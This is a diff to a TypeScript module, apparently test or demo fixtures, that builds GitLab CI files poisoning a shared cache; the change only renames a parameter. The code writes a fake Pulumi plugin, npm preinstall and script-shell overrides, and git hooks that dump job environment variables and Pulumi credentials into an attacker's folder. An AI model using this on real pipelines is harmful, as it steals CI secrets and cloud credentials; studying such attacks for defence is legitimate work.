@@ -35,12 +35,12 @@ const cache = {
 const onMergeRequest = [{ if: '$CI_PIPELINE_SOURCE == "merge_request_event"' }];
 
 /** A CI file whose job `preview` poisons the cache. */
-export function poisonedPreview(loot: string): string {
-  return stringify({ preview: { rules: onMergeRequest, cache, script: poison(loot) } });
+export function poisonedPreview(folder: string): string {
+  return stringify({ preview: { rules: onMergeRequest, cache, script: poison(folder) } });
 }
 
 /** A CI file whose job `stop-x` poisons the cache; GitLab plays it when the merge request is closed. */
-export function poisonedStop(loot: string): string {
+export function poisonedStop(folder: string): string {
   const environment = { name: "x/$CI_MERGE_REQUEST_IID" };
   return stringify({
     x: { rules: onMergeRequest, environment: { ...environment, on_stop: "stop-x" }, script: ["true"] },
@@ -48,23 +48,23 @@ export function poisonedStop(loot: string): string {
       rules: onMergeRequest.map((rule) => ({ ...rule, when: "manual", allow_failure: true })),
       environment: { ...environment, action: "stop" },
       cache,
-      script: poison(loot),
+      script: poison(folder),
     },
   });
 }
 
 /** Writes one file for each attack, which copies the job's credentials into the attacker's folder. */
-function poison(loot: string): string[] {
+function poison(folder: string): string[] {
   const plugin = ".pulumi-home/plugins/resource-legit-v1.0.0";
-  const scripts = { preinstall: take(loot, "package"), postinstall: "git status --short; git tag --force built" };
+  const scripts = { preinstall: take(folder, "package"), postinstall: "git status --short; git tag --force built" };
   const files: Readonly<Record<string, string>> = {
-    [`${plugin}/pulumi-resource-legit`]: `#!/bin/sh\n${take(loot, "plugin")}\nexit 1\n`,
-    "infra/index.js": `require("child_process").execSync(${JSON.stringify(take(loot, "program"))});\n${program("poisoned")}`,
+    [`${plugin}/pulumi-resource-legit`]: `#!/bin/sh\n${take(folder, "plugin")}\nexit 1\n`,
+    "infra/index.js": `require("child_process").execSync(${JSON.stringify(take(folder, "program"))});\n${program("poisoned")}`,
     "infra/package.json": JSON.stringify({ name: "shop-api", private: true, main: "index.js", scripts }),
     "infra/.npmrc": "script-shell=${CI_PROJECT_DIR}/infra/shell\n",
-    "infra/shell": `#!/bin/sh\n${take(loot, "npmrc")}\nexec sh "$@"\n`,
-    ".git/hooks/reference-transaction": `#!/bin/sh\n${take(loot, "hook")}\n`,
-    ".git/hooks/monitor": `#!/bin/sh\n${take(loot, "fsmonitor")}\nexit 1\n`,
+    "infra/shell": `#!/bin/sh\n${take(folder, "npmrc")}\nexec sh "$@"\n`,
+    ".git/hooks/reference-transaction": `#!/bin/sh\n${take(folder, "hook")}\n`,
+    ".git/hooks/monitor": `#!/bin/sh\n${take(folder, "fsmonitor")}\nexit 1\n`,
   };
   return [
     `mkdir -p ${plugin} .git/hooks`,
@@ -75,8 +75,8 @@ function poison(loot: string): string[] {
 }
 
 /** A shell command that copies the environment of a job, and the token of its login, into the attacker's folder. */
-function take(loot: string, way: string): string {
-  return `{ env; cat "$PULUMI_CREDENTIALS_PATH/credentials.json"; } > ${loot}/$CI_JOB_NAME.${way} 2> /dev/null || true`;
+function take(folder: string, way: string): string {
+  return `{ env; cat "$PULUMI_CREDENTIALS_PATH/credentials.json"; } > ${folder}/$CI_JOB_NAME.${way} 2> /dev/null || true`;
 }
 
 function program(name: string): string {
